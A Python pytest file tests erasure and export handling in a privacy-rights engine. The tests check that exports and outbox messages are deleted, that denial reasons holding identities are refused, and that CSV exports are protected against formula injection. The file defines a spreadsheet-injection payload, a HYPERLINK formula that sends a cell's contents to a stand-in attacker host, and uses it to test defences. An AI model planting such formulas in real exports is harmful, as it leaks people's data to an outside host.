"""An erasure leaves no copy behind in troth itself, and troth keeps no raw identity.

Attacks from issue 14: an erased subject's earlier export ZIPs and the outbox messages
with their address and codes survived the erasure; a staff reason stored a raw e-mail;
a cell such as =HYPERLINK(...) went into an export's CSV as a live formula. The reference
app is in SQLite; the engine store in SQLite (.troth/troth.db) and PostgreSQL.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, text

from test_rights import App, dump, make_app, pick_subject, run_cli, start
from troth import ledger, outbox, rights
from troth.errors import InvalidInput, TrothError
from troth.outbox import (
    address_digest,
    compose,
    delete_messages_to,
    list_outbox,
    message_key,
    send,
)
from troth.project import Project, open_project
from troth.rights import export
from troth.rights import tables as t
from troth.rights.export import csv_writer, inert_rows

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.fixture(params=["sqlite", "postgresql"])
def app(
    request: pytest.FixtureRequest, tmp_path: Path, sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> Iterator[App]:
    on_pg = request.param == "postgresql"
    if on_pg:
        monkeypatch.setenv("TROTH_STORE_URL", request.getfixturevalue("pg_url"))
    yield from make_app(tmp_path, sqlite_url, monkeypatch, keep_store_url=on_pg)


def other_than(app: App, subject: dict[str, Any]) -> dict[str, Any]:
    users = dump(app.engine)["users"].values()
    return next(u for u in users if u["status"] == "active" and u["id"] != subject["id"])


def exported(app: App, kind: str, identity: str, value: str) -> rights.Request:
    done = rights.run_request(app.project, app.store, start(app, kind, identity, value).id)
    assert rights.export_path(app.project, done.id).exists()
    return done


def copies_of(app: App, subject: dict[str, Any], other: dict[str, Any]) -> list[rights.Request]:
    """Two exports and three messages (one half-written) for `subject`, one of each for
    `other`; returns the subject's export requests."""
    mine = [
        exported(app, "access", "email", subject["email"]),
        exported(app, "portability", "user_id", str(subject["id"])),
    ]
    exported(app, "access", "email", other["email"])
    address = subject["email"].swapcase()  # the outbox keeps the case it was given
    send(app.project, address, "Your sign-in code", "123456", kind="otp")
    key = message_key("3", subject["email"])
    send(app.project, subject["email"], "Policy", "changed", kind="policy.notice", key=key)
    half = compose("troth@localhost", address, "Your code", "654321", "otp")
    (app.project.outbox_dir / ".tmp-crashed.eml").write_bytes(half.as_bytes())
    send(app.project, other["email"], "Your sign-in code", "999999", kind="otp")
    return mine


def check_copies_gone(
    app: App, done: rights.Request, mine: list[rights.Request], other: dict[str, Any]
) -> None:
    assert done.status == "completed"
    assert not any(rights.export_path(app.project, r.id).exists() for r in mine)
    left = {p.name for p in app.project.exports_dir.iterdir()}
    assert len(left) == 1, "the other person's export stays"
    assert [m.to.lower() for m in list_outbox(app.project)] == [other["email"].lower()]
    assert not any(p.name.startswith(".tmp-") for p in app.project.outbox_dir.iterdir())
    assert done.result["copies"] == {"exports": 2, "outbox": 3}
    steps = [e for e in ledger.entries(app.store, ref=done.id) if e.kind == "request.step"]
    (copies,) = [e.data for e in steps if e.data["store"] == ".troth"]
    assert copies["rows"] == {"exports": 2, "outbox": 3}


@pytest.mark.parametrize("identity", ["email", "user_id"])
def test_erasure_deletes_the_subjects_exports_and_messages(app: App, identity: str) -> None:
    """By user id, the account's e-mail names the messages (read before it is erased)."""
    subject = pick_subject(app)
    other = other_than(app, subject)
    mine = copies_of(app, subject, other)
    value = subject["email"] if identity == "email" else str(subject["id"])
    request = start(app, "erasure", identity, value)
    done = rights.run_request(app.project, app.store, request.id)
    check_copies_gone(app, done, mine, other)
    with app.store.connect() as conn:
        stored = conn.execute(select(t.steps.c.detail)).scalars().all()
    assert subject["email"].lower() not in json.dumps(stored).lower()


@pytest.mark.slow
def test_a_killed_erasure_resumes_and_deletes_the_copies(app: App) -> None:
    subject = pick_subject(app)
    other = other_than(app, subject)
    mine = copies_of(app, subject, other)
    request = start(app, "erasure", "phone", subject["phone"])
    killed = run_cli(app, "run", request.id, kill_at="blob:2")
    assert killed.returncode == -9, killed.stderr
    assert rights.export_path(app.project, mine[0].id).exists()  # not reached yet
    assert run_cli(app, "run", request.id).returncode == 0
    check_copies_gone(app, rights.get_request(app.store, request.id), mine, other)


def test_only_the_addressees_messages_are_read_and_deleted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = open_project(tmp_path)
    for to in ("Ann@Example.com", "ann@example.com", "bob@example.com"):
        send(project, to, "Your code", "123456", kind="otp")
    legacy = compose("troth@localhost", "ANN@example.com", "Old", "111111", "otp")
    (project.outbox_dir / "20250101T000000000000-otp-0a1b2c3d.eml").write_bytes(legacy.as_bytes())
    read: list[str] = []
    recipients = outbox._recipient_digests

    def reading(project: Project, path: Path) -> set[str]:
        read.append(path.name)
        return recipients(project, path)

    monkeypatch.setattr(outbox, "_recipient_digests", reading)
    digest = address_digest(project, "ann@example.com")
    assert "ann" not in digest and delete_messages_to(project, [digest]) == 3
    assert len(read) == 3, "the message to bob, named for his address, is not opened"
    assert delete_messages_to(project, [digest]) == 0
    assert [m.to for m in list_outbox(project)] == ["bob@example.com"]


@pytest.mark.parametrize(
    ("reason", "what"),
    [
        ("duplicate of Bob@Example.com's request", "an e-mail address"),
        ("asked again from +1 (555) 123-4567", "a phone number"),
        ("sent from 203.0.113.9", "an IP address"),
    ],
)
def test_a_denial_reason_holding_an_identity_is_refused(app: App, reason: str, what: str) -> None:
    request = rights.create_request(app.project, app.store, "access", "email", "ann@example.com")
    with pytest.raises(InvalidInput) as refused:
        rights.deny_request(app.project, app.store, request.id, reason)
    assert what in str(refused.value) and reason not in str(refused.value)
    assert rights.get_request(app.store, request.id).status == "received"
    denied = rights.deny_request(app.project, app.store, request.id, "identity not confirmed")
    assert denied.status == "denied" and denied.identity_value is None
    with app.store.connect() as conn:
        row = conn.execute(select(t.requests).where(t.requests.c.id == request.id)).one()
    assert "example.com" not in json.dumps(row._asdict(), default=str)


def test_a_cell_a_spreadsheet_would_run_is_neutralized() -> None:
    cells = [FORMULA, "+1 555 0100", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain", "a=b"]
    buffer = io.StringIO()
    csv_writer(buffer, ["v", "n"]).writerows(inert_rows([{"v": c, "n": -5} for c in cells]))
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert [r["v"] for r in rows] == ["'" + c for c in cells[:6]] + cells[6:]
    assert {r["n"] for r in rows} == {"-5"}  # a number is no formula


def test_an_export_csv_holds_no_formula_and_its_json_is_untouched(app: App) -> None:
    subject = pick_subject(app)
    with app.engine.begin() as conn:
        conn.execute(
            text("UPDATE users SET display_name = :f WHERE id = :u"),
            {"f": FORMULA, "u": subject["id"]},
        )
    done = exported(app, "access", "user_id", str(subject["id"]))
    with zipfile.ZipFile(io.BytesIO(b"".join(rights.read_export(app.project, done.id)))) as zf:
        (row,) = csv.DictReader(io.StringIO(zf.read("data/app/users.csv").decode()))
        (user,) = json.loads(zf.read("data/app/users.json"))
    assert row["display_name"] == "'" + FORMULA
    assert user["display_name"] == FORMULA


def test_a_table_of_several_batches_is_exported_whole(app: App) -> None:
    """Rows are written BATCH at a time: the JSON array, the CSV and the summary's count
    cover every batch, and a column filled only in the last batch is still held."""
    subject = pick_subject(app)
    many = 2 * export.BATCH + 7
    with app.engine.begin() as conn:
        conn.execute(text("DELETE FROM devices WHERE user_id = :u"), {"u": subject["id"]})
        conn.execute(
            text(
                "INSERT INTO devices (id, user_id, device_model, ip_address, last_seen_at) "
                "VALUES (:id, :u, :model, :ip, '2026-01-01')"
            ),
            [
                {"id": 10_000_000 + n, "u": subject["id"], "model": f"m{n}", "ip": None}
                for n in range(many - 1)
            ]
            + [{"id": 20_000_000, "u": subject["id"], "model": "last", "ip": "203.0.113.7"}],
        )
    request = start(app, "access", "user_id", str(subject["id"]))
    done = rights.run_request(app.project, app.store, request.id, allow_large=True)
    with zipfile.ZipFile(io.BytesIO(b"".join(rights.read_export(app.project, done.id)))) as zf:
        devices = json.loads(zf.read("data/app/devices.json"))
        rows = list(csv.DictReader(io.StringIO(zf.read("data/app/devices.csv").decode())))
        summary = zf.read("summary.html").decode()
    assert len(devices) == len(rows) == many
    assert [d["device_model"] for d in devices] == [r["device_model"] for r in rows]
    assert done.result["tables"]["app.devices"] == many
    assert f"<td>app.devices</td><td>{many}</td>" in summary
    assert "user.device.ip_address" in summary


def test_a_half_written_export_is_erased_and_expires(app: App) -> None:
    """A runner killed while it wrote a ZIP leaves `<request id>.<random>.part`: an erasure
    of the subject deletes it with the subject's finished ZIPs, and the export clean-up
    deletes an old one, like an old ZIP."""
    subject = pick_subject(app)
    other = other_than(app, subject)
    killed = start(app, "access", "email", subject["email"])  # verified, never finished
    folder = app.project.private_dir(app.project.exports_dir)
    half = folder / f"{killed.id}.k1ll3d.part"
    half.write_bytes(b"PK\x03\x04 half a ZIP")
    stranger = folder / f"{exported(app, 'access', 'email', other['email']).id}.x.part"
    stranger.write_bytes(b"PK\x03\x04")
    done = rights.run_request(
        app.project, app.store, start(app, "erasure", "email", subject["email"]).id
    )
    assert done.status == "completed" and not half.exists()
    assert done.result["copies"]["exports"] == 1
    assert stranger.exists(), "another person's file stays"
    assert rights.expire_exports(app.project, dt.timedelta(days=-1)) == 2  # the ZIP and part
    assert not any(folder.iterdir())


def test_an_export_whose_file_an_erasure_deleted_fails(
    app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An erasure that runs while the subject's ZIP is being written deletes the file
    under the writer: the export fails, and no ZIP of the erased rows appears."""
    subject = pick_subject(app)
    request = start(app, "access", "email", subject["email"])
    summary = export.summary_html
    deleted: list[int] = []

    def erased_meanwhile(*args: Any, **kwargs: Any) -> str:
        deleted.append(export.delete_exports(app.project, [request.id]))
        return summary(*args, **kwargs)

    monkeypatch.setattr(export, "summary_html", erased_meanwhile)
    with pytest.raises(TrothError):  # sealed: its data key was shredded too
        rights.run_request(app.project, app.store, request.id)
    assert deleted == [1], "the part being written was found by its request's id"
    assert rights.get_request(app.store, request.id).status == "failed"
    assert not rights.export_path(app.project, request.id).exists()
    assert not any(app.project.exports_dir.iterdir())
